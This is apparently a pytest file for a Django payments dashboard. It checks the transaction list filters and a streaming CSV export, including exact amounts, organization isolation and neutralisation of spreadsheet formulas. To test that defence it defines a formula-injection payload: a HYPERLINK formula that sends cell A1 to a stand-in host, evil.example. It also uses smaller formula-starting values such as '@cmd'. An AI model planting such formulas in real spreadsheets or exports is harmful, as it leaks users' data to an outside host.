"""Transactions in the dashboard: the list with the API's filters, and the streaming CSV export
(exact amount strings, CSV quoting, formula cells neutralised, only the organization's rows)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.utils import timezone

from accounts.dashboard.views import transactions as dashboard
from tests.factories.dashboard import deposit, system_wallet

# The fixture's ETH amount has 18 significant digits: SQLite keeps 15 and refuses more.
pytestmark = [pytest.mark.django_db, pytest.mark.postgres]

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def ledger(alpha, beta, assets):
    usd = system_wallet(alpha.organization, "USD", purpose="settlement")
    eth = system_wallet(alpha.organization, "ETH")
    txs = {
        "usd": deposit(usd, "100.50", organization=alpha.organization, description=HYPERLINK, reference="ref,with,commas"),
        "eth": deposit(eth, "0.123456789012345678", organization=alpha.organization, description="+1 call", reference="@cmd"),
        "quote": deposit(usd, "0.01", organization=alpha.organization, description='He said "hi"\nthen left', reference="-2+3"),
    }
    deposit(system_wallet(beta.organization, "USD"), "7.77", organization=beta.organization, description="beta only")
    return txs


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="coffer-transactions-')
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8"))))


def test_csv_export_content_exact_amounts_and_escaping(ledger, viewer_client):
    rows = _csv(viewer_client.get("/dashboard/transactions/?format=csv"))
    header, body = rows[0], rows[1:]
    assert header == list(dashboard.CSV_COLUMNS)
    records = [dict(zip(header, r)) for r in body]
    assert [r["id"] for r in records] == [str(ledger["quote"].pk), str(ledger["eth"].pk), str(ledger["usd"].pk)]  # newest first
    by_id = {r["id"]: r for r in records}
    usd, eth, quote = by_id[str(ledger["usd"].pk)], by_id[str(ledger["eth"].pk)], by_id[str(ledger["quote"].pk)]
    assert (usd["amount"], usd["currency"], usd["type"], usd["status"]) == ("100.50", "USD", "deposit", "completed")
    assert (eth["amount"], eth["currency"]) == ("0.123456789012345678", "ETH")
    assert quote["amount"] == "0.01"
    # Formula-looking text is neutralised with a leading quote; the rest survives CSV quoting intact.
    assert usd["description"] == "'" + HYPERLINK
    assert usd["reference"] == "ref,with,commas"
    assert eth["description"] == "'+1 call" and eth["reference"] == "'@cmd"
    assert quote["description"] == 'He said "hi"\nthen left' and quote["reference"] == "'-2+3"
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in body for cell in r)
    assert "beta only" not in str(rows)
    assert usd["created_at"].startswith(ledger["usd"].created_at.date().isoformat())
    # fee, net and the running balance of the organization's wallet, exact at the asset's exponent.
    assert (usd["fee"], usd["net"], usd["running_balance"]) == ("0.00", "100.50", "100.50")
    assert (quote["net"], quote["running_balance"], quote["balance_wallet_id"]) == ("0.01", "100.51", usd["destination_wallet_id"])
    assert (eth["fee"], eth["net"], eth["running_balance"]) == ("0.000000000000000000", "0.123456789012345678", "0.123456789012345678")


def test_csv_net_is_gross_less_the_settlement_fee(alpha, owner_client, assets):
    from decimal import Decimal

    from tests.factories.dashboard import complete_payorder

    order = complete_payorder(alpha, amount="40.00")
    rows = _csv(owner_client.get("/dashboard/transactions/?type=settlement&format=csv"))
    [settled] = [dict(zip(rows[0], r)) for r in rows[1:]]
    assert Decimal(settled["fee"]) == order.settlement_fee > 0
    assert Decimal(settled["amount"]) == order.settlement_amount
    assert Decimal(settled["net"]) == order.settlement_amount - order.settlement_fee
    assert Decimal(settled["running_balance"]) == order.settlement_amount - order.settlement_fee  # the wallet's first money


def test_csv_export_applies_the_filters(ledger, owner_client):
    eth = _csv(owner_client.get("/dashboard/transactions/?currency=ETH&format=csv"))
    assert [r[0] for r in eth[1:]] == [str(ledger["eth"].pk)]
    yesterday = timezone.now().date() - dt.timedelta(days=1)
    assert len(_csv(owner_client.get(f"/dashboard/transactions/?date_to={yesterday}&format=csv"))) == 1  # header only
    found = _csv(owner_client.get("/dashboard/transactions/?search=said&format=csv"))
    assert [r[0] for r in found[1:]] == [str(ledger["quote"].pk)]
    assert len(_csv(owner_client.get("/dashboard/transactions/?type=withdrawal&format=csv"))) == 1


def test_csv_export_streams_in_batches_without_losing_a_row(alpha, owner_client, assets, monkeypatch):
    wallet = system_wallet(alpha.organization, "EUR")
    ids = [deposit(wallet, f"{i}.25", organization=alpha.organization).pk for i in range(1, 8)]
    monkeypatch.setattr(dashboard, "CSV_BATCH", 3)
    rows = _csv(owner_client.get("/dashboard/transactions/?format=csv"))
    assert [int(r[0]) for r in rows[1:]] == sorted(ids, reverse=True)
    assert [r[5] for r in rows[1:]] == [f"{i}.25" for i in range(7, 0, -1)]


def test_list_filters_and_links_the_export(ledger, owner_client):
    page = owner_client.get("/dashboard/transactions/")
    assert [r["id"] for r in page.context["rows"]] == [ledger["quote"].pk, ledger["eth"].pk, ledger["usd"].pk]
    body = page.content.decode()
    assert "100.50 USD" in body and "0.123456789012345678 ETH" in body and "beta only" not in body
    # Shown as inert, HTML-escaped text on the page.
    assert "=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;Click&quot;)" in body
    filtered = owner_client.get("/dashboard/transactions/?currency=USD&status=completed&type=deposit")
    assert [r["id"] for r in filtered.context["rows"]] == [ledger["quote"].pk, ledger["usd"].pk]
    assert "currency=USD" in filtered.context["csv_url"] and "format=csv" in filtered.context["csv_url"]
    today = timezone.now().date()
    assert len(owner_client.get(f"/dashboard/transactions/?date_from={today}&date_to={today}").context["rows"]) == 3


@pytest.mark.parametrize("query", ["date_from=2026-13-01", "currency=XXX", "type=bogus", "date_from=2026-05-02&date_to=2026-05-01"])
def test_malformed_filters_show_errors_and_no_rows(ledger, owner_client, query):
    response = owner_client.get(f"/dashboard/transactions/?{query}")
    assert response.status_code == 200
    assert response.context["form"].errors
    assert response.context["rows"] == []
    assert len(_csv(owner_client.get(f"/dashboard/transactions/?{query}&format=csv"))) == 1


def test_csv_safe_neutralises_formula_starts():
    assert dashboard.csv_safe("=1+1") == "'=1+1"
    assert dashboard.csv_safe("\t=cmd") == "'\t=cmd"
    assert dashboard.csv_safe("plain") == "plain"
    assert dashboard.csv_safe(None) == ""
    assert dashboard.csv_safe("12.50") == "12.50"
